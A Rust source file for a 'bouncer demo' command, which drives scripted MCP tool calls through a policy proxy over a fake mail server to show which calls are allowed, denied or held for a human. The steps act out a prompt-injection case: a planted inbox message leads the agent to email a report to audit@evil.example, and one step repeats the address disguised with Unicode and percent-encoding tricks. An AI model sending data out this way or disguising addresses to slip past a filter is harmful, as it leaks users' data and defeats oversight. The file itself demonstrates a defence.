//! `bouncer demo`: compiles a policy, starts the real proxy over the demo server, and
//! drives it as a client.

use crate::cli::DemoArgs;
use crate::output::{ERROR, Failure, Outcome};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};

const POLICY: &str = include_str!("../../examples/demo.yaml");

/// A step of the demo: what the agent does, and the verdict it has to get.
struct Step {
    story: &'static str,
    tool: &'static str,
    arguments: Value,
    expected: &'static str,
}

/// Runs the command.
pub fn run(args: &DemoArgs) -> Outcome {
    let directory = match &args.keep {
        Some(directory) => directory.clone(),
        None => std::env::temp_dir().join(format!("bouncer-demo-{}", std::process::id())),
    };
    std::fs::create_dir_all(&directory)
        .map_err(|error| Failure::file("create", &directory, &error))?;
    let result = play(&directory);
    if args.keep.is_none() {
        // Left-overs in the temporary directory are only untidy.
        let _ = std::fs::remove_dir_all(&directory);
    }
    result
}

fn steps() -> Vec<Step> {
    let mail = |to: &str, body: &str| json!({ "to": [to], "subject": "report", "body": body });
    vec![
        Step {
            story: "the agent reads the inbox; one message is an attack",
            tool: "read_inbox",
            arguments: json!({}),
            expected: "allow",
        },
        Step {
            story: "it answers a colleague: the policy trusts *@corp.example",
            tool: "send_email",
            arguments: mail("alice@corp.example", "noon is fine"),
            expected: "allow",
        },
        Step {
            story: "it does what the attack says: same tool, an address that came from the mail",
            tool: "send_email",
            arguments: mail("audit@evil.example", "the quarterly report"),
            expected: "deny",
        },
        Step {
            story: "the same address, dressed up",
            tool: "send_email",
            arguments: mail(
                "\u{ff41}udit%40evil\u{200b}.example",
                "the quarterly report",
            ),
            expected: "deny",
        },
        Step {
            story: "an address that nobody has mentioned: a human would be asked",
            tool: "send_email",
            arguments: mail("carol@elsewhere.example", "hello"),
            expected: "ask",
        },
        Step {
            story: "the agent looks into the user's own contacts",
            tool: "list_contacts",
            arguments: json!({}),
            expected: "allow",
        },
        Step {
            story: "a contact's address vouches for itself",
            tool: "send_email",
            arguments: mail("bob@partner.example", "see you on Monday"),
            expected: "allow",
        },
        Step {
            story: "a rule looks at what is sent",
            tool: "send_email",
            arguments: mail("alice@corp.example", "my card is 4111 1111 1111 1111"),
            expected: "deny",
        },
        Step {
            story: "deleting asks, and nobody is there to answer",
            tool: "delete_message",
            arguments: json!({ "id": 2 }),
            expected: "ask",
        },
    ]
}

fn play(directory: &Path) -> Outcome {
    let policy = directory.join("policy.yaml");
    let plan = directory.join("policy.plan");
    std::fs::write(&policy, POLICY).map_err(|error| Failure::file("write", &policy, &error))?;
    let program = std::env::current_exe()
        .map_err(|error| Failure::Message(format!("cannot find this program: {error}")))?;
    let compiled = Command::new(&program)
        .args(["compile", "policy.yaml", "-o", "policy.plan"])
        .current_dir(directory)
        .status()
        .map_err(|error| Failure::Message(format!("cannot run `bouncer compile`: {error}")))?;
    if !compiled.success() {
        return Err(Failure::Code(ERROR));
    }
    let mut client = Client::start(&program, &plan, directory)?;
    let mut failed = 0;
    for step in steps() {
        failed += u32::from(!client.step(&step)?);
    }
    client.finish();
    let mut stdout = anstream::stdout();
    writeln!(
        stdout,
        "\nEvery verdict above was decided by the plan, without a model, and is in the audit log."
    )?;
    if failed > 0 {
        return Err(Failure::Message(format!(
            "{failed} verdicts were not the expected ones"
        )));
    }
    Ok(0)
}

/// A minimal MCP client of the proxy.
struct Client {
    child: Child,
    input: ChildStdin,
    output: BufReader<ChildStdout>,
    audit: PathBuf,
    next_id: u64,
}

impl Client {
    fn start(program: &Path, plan: &Path, directory: &Path) -> Result<Self, Failure> {
        let audit = directory.join("audit.jsonl");
        let failure =
            |error: std::io::Error| Failure::Message(format!("cannot start the proxy: {error}"));
        let mut child = Command::new(program)
            .args(["run", "--server", "mail", "--plan"])
            .arg(plan)
            .arg("--audit")
            .arg(&audit)
            // Nothing of the demo is left in the user's home.
            .arg("--approvals")
            .arg(directory.join("approvals.db"))
            .arg("--")
            .arg(program)
            .arg("demo-server")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .map_err(failure)?;
        let (Some(input), Some(output)) = (child.stdin.take(), child.stdout.take()) else {
            return Err(Failure::Message(
                "the proxy has no standard streams".to_owned(),
            ));
        };
        let mut client = Self {
            child,
            input,
            output: BufReader::new(output),
            audit,
            next_id: 0,
        };
        client.request(
            "initialize",
            &json!({
                "protocolVersion": "2025-06-18",
                "capabilities": {},
                "clientInfo": { "name": "bouncer-demo", "version": env!("CARGO_PKG_VERSION") },
            }),
        )?;
        client.send(&json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }))?;
        Ok(client)
    }

    fn send(&mut self, message: &Value) -> Result<(), Failure> {
        writeln!(self.input, "{message}")
            .and_then(|()| self.input.flush())
            .map_err(|error| Failure::Message(format!("the proxy does not read: {error}")))
    }

    /// Sends a request and waits for its answer.
    fn request(&mut self, method: &str, params: &Value) -> Result<Value, Failure> {
        self.next_id += 1;
        let id = self.next_id;
        self.send(&json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params }))?;
        loop {
            let mut line = String::new();
            let read = self.output.read_line(&mut line);
            if !matches!(read, Ok(bytes) if bytes > 0) {
                return Err(Failure::Message("the proxy ended early".to_owned()));
            }
            let Ok(message) = serde_json::from_str::<Value>(&line) else {
                continue;
            };
            if message.get("id").and_then(Value::as_u64) == Some(id) {
                return Ok(message);
            }
        }
    }

    /// Plays one step; whether the verdict was the expected one.
    fn step(&mut self, step: &Step) -> Result<bool, Failure> {
        let answer = self.request(
            "tools/call",
            &json!({ "name": step.tool, "arguments": step.arguments }),
        )?;
        let (verdict, reason) = self.last_verdict()?;
        let colour = match verdict.as_str() {
            "allow" => "32",
            "ask" => "33",
            _ => "31",
        };
        let mut stdout = anstream::stdout();
        writeln!(stdout, "\n\u{1b}[2m# {}\u{1b}[0m", step.story)?;
        writeln!(stdout, "{} {}", step.tool, step.arguments)?;
        writeln!(stdout, "  \u{1b}[1;{colour}m{verdict:<5}\u{1b}[0m {reason}")?;
        let text = answer
            .pointer("/result/content/0/text")
            .and_then(Value::as_str)
            .unwrap_or_default();
        let first = text.lines().next().unwrap_or_default();
        writeln!(stdout, "  \u{1b}[2mthe agent sees: {first}\u{1b}[0m")?;
        Ok(verdict == step.expected)
    }

    /// The verdict and reason of the latest audit line.
    fn last_verdict(&self) -> Result<(String, String), Failure> {
        let log = std::fs::read_to_string(&self.audit)
            .map_err(|error| Failure::file("read", &self.audit, &error))?;
        let mut lines = log
            .lines()
            .rev()
            .filter_map(|line| serde_json::from_str::<Value>(line).ok());
        let last = lines
            .find(|line| line.get("verdict").is_some())
            .unwrap_or_default();
        let field = |key: &str| {
            last.get(key)
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned()
        };
        Ok((field("verdict"), field("reason")))
    }

    /// Closes the proxy and waits for it.
    fn finish(self) {
        let Self {
            mut child,
            input,
            output,
            ..
        } = self;
        drop((input, output));
        // Its exit code says how the server ended, which is not the demo's business.
        let _ = child.wait();
    }
}
